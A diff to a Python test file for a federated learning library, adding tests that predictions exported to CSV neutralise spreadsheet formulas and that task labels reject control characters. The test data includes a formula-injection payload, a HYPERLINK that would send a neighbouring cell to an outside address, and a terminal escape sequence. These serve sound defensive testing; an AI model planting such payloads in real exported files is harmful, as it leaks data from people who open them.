@@ -2,18 +2,24 @@
 
 from __future__ import annotations
 
+import contextlib
+import csv
 import re
 from collections.abc import Iterator
 from dataclasses import asdict, replace
 from pathlib import Path
 from typing import Any
 
+import numpy as np
+import pyarrow.parquet as pq
 import pytest
 
 from fedactors.api import simulate
 from fedactors.cli.sites import describe
+from fedactors.config import as_dict, build, spell_infinities
+from fedactors.data.new_rows import write_predictions
 from fedactors.errors import BadInput, Refused
-from fedactors.federation.approval import Proposal, check_proposal, make_proposal, why_a_person
+from fedactors.federation.approval import Proposal, as_tree, check_proposal, make_proposal, read_proposal, why_a_person
 from fedactors.federation.site_folder import SITE, AllowedQuery, Policy, SiteFolder, TaskFacts
 from fedactors.plugins import find_protocol
 from protocols.tablepuppet.loj_operator import JoinServer
@@ -142,3 +148,50 @@ def test_a_table_without_the_label_gives_no_labels(monkeypatch: pytest.MonkeyPat
     monkeypatch.setattr(JoinServer, "_agree_on_plan", of_another)
     with pytest.raises(Refused, match=r"server: asks .* for labels, which are no column of its table"):
         simulate("tablepuppet", seed=1, **find_protocol("tablepuppet").smoke)
+
+
+# --- names of classes in a file of predictions ---
+
+
+def written(path: Path, names: tuple[str, ...], rejected: dict[int, str] | None = None) -> list[dict[str, str]]:
+    count = len(names)
+    write_predictions(
+        path,
+        ids={"id": [f"-id{row}" for row in range(count)]},
+        rows=np.arange(count),
+        values=np.eye(count),
+        class_names=names,
+        task="multiclass",
+        rejections=rejected or {},
+    )
+    with path.open(newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_no_class_that_another_party_names_is_a_formula(tmp_path: Path) -> None:
+    """A spreadsheet that opens a site's predictions would send other cells where the formula says."""
+    names = ('=HYPERLINK("http://x/?"&A2)', "@SUM(1)", "+x+1", "-x", "\tx", "-1", "+1.5", "-", "+", "a=b", "")
+    cells = [row["prediction"] for row in written(tmp_path / "new.csv", names)]
+    assert cells == [*(f"'{name}" for name in names[:5]), *names[5:]]
+    assert [row["id"] for row in written(tmp_path / "new.csv", ("a", "b"))] == ["-id0", "-id1"], "ids are one's own"
+    rows = written(tmp_path / "new.csv", ("a", "b"), {0: "no partner in \x1b[2J", 1: "=1+1 misses values"})
+    assert [row["reason"] for row in rows] == ["no partner in ?[2J", "'=1+1 misses values"]
+    written_whole = tmp_path / "new.parquet"
+    with contextlib.suppress(UnicodeDecodeError):
+        written(written_whole, names)
+    assert pq.read_table(written_whole)["prediction"].to_pylist() == list(names)
+
+
+def test_classes_of_a_proposal_have_no_control_characters(fresh: World) -> None:
+    settings = spell_infinities(as_dict(build(find_protocol("horizontal").Config, {"on_party_loss": "stop"})))
+    names = f"{BANK}=patients,{SHOP}=cases"
+    made = make_proposal(fresh.folder(BANK), find_protocol("horizontal"), settings, names, None)
+    tree = as_tree(made)
+    for label in ("a\nb", "a\tb", "\x1b[2J", "\u202e", "a\x00"):
+        with pytest.raises(BadInput, match=r"task: Value error, labels: .* is not allowed: control characters"):
+            read_proposal({**tree, "task": {**tree["task"], "labels": ["0", label]}})
+    read_proposal({**tree, "task": {**tree["task"], "labels": ["-1", "caf\u00e9\u00a0+"]}})
+    file = fresh.path / BANK / SITE
+    file.write_text(file.read_text().replace('classes = ["0", "1"]', 'classes = ["0", "a\\u001b"]'))
+    with pytest.raises(BadInput, match=r"data\.patients\.task: labels: 'a\\x1b' is not allowed: control characters"):
+        fresh.folder(BANK).task("patients")
